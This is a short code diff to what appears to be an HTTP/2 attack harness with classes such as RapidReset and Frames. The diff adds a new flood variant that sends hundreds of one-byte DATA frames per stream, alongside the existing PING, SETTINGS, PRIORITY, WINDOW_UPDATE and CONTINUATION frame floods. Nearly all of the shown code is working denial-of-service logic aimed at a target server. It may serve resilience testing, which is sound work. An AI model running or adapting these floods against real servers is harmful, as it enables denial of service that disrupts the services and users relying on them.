@@ -248,13 +248,13 @@ class RapidReset(Attack):
 @attack
 class Frames(Attack):
     name = "h2-frames"
-    what = "floods of PING, SETTINGS, empty DATA, PRIORITY, WINDOW_UPDATE, and heads without an end (CONTINUATION)"
+    what = "floods of PING, SETTINGS, DATA without a byte or of one, PRIORITY, WINDOW_UPDATE, and heads without an end (CONTINUATION)"
     tls = True
     pause = 0.02
 
     def turn(self, random):
         connection = wire.HTTP2(self.target, self.address(random))
-        kind = random.choice(["ping", "settings", "data", "priority", "window", "continuation", "noise"])
+        kind = random.choice(["ping", "settings", "data", "priority", "window", "continuation", "bytes", "noise"])
         try:
             for _ in range(200):
                 if kind == "ping":
@@ -264,6 +264,9 @@ class Frames(Attack):
                 elif kind == "data":
                     stream, head = connection.open("/prefetch", end=False)
                     frames = [head] + [wire.frame(wire.DATA, 0, stream)] * 500
+                elif kind == "bytes":
+                    stream, head = connection.open("/prefetch", end=False)
+                    frames = [head] + [wire.frame(wire.DATA, 0, stream, b"x")] * 500
                 elif kind == "priority":
                     frames = [wire.frame(wire.PRIORITY, 0, 1, bytes(4) + b"\x10")] * 500
                 elif kind == "window":
